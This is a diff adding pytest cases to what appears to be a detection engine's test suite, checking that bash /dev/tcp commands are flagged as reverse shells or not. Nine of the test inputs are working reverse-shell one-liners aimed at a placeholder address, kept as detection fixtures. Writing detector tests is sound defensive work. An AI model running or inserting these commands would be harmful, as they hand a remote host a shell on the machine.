@@ -142,3 +142,33 @@ def test_dns_a_host_sensor_saw(query, rule):
     event = from_dict({"kind": "network", "ts": 0, "proto": "udp", "dst": "10.0.0.2", "dport": 53,
                        "dns_query": query, "sandbox": "dns"})
     assert {f.rule for f in ENGINE.analyze(event)} == ({rule} if rule else set())
+
+
+@pytest.mark.parametrize("command", [
+    "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
+    "/bin/bash -l > /dev/tcp/203.0.113.7/443 0<&1 2>&1",
+    "sh -i 5<> /dev/tcp/203.0.113.7/4444 0<&5 1>&5 2>&5",
+    "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
+    "exec 3<>/dev/tcp/203.0.113.7/443; exec 0<&3; exec 1>&3 2>&3; /bin/sh",
+    "exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done",
+    "sh < /dev/tcp/203.0.113.7/4444",
+    "cat </dev/tcp/203.0.113.7/4444 | sh",
+    "H=203.0.113.7; bash -i >& /dev/tcp/$H/443 0>&1",
+])
+def test_shell_wired_to_dev_tcp(command):
+    assert "reverse_shell_dev_tcp" in alerts(command)
+
+
+@pytest.mark.parametrize("command, expected", [
+    # a service's readiness checked inside the lab: nothing
+    ('timeout 1 bash -c "</dev/tcp/localhost/5432" && echo up', set()),
+    ("until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done", set()),
+    ("while ! (: </dev/tcp/127.0.0.1/6379) 2>/dev/null; do sleep 0.5; done", set()),
+    ('(echo >/dev/tcp/db/5432) >/dev/null 2>&1 && echo "db is up"', set()),
+    ("exec 3<>/dev/tcp/10.0.0.5/22 && echo open", set()),
+    # a socket to an outside host, no shell wired to it
+    ("exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", {"dev_tcp_socket_opened"}),
+    ("echo hi > /dev/udp/203.0.113.7/53", {"dev_tcp_socket_opened"}),
+])
+def test_dev_tcp_without_a_shell(command, expected):
+    assert alerts(command) == expected
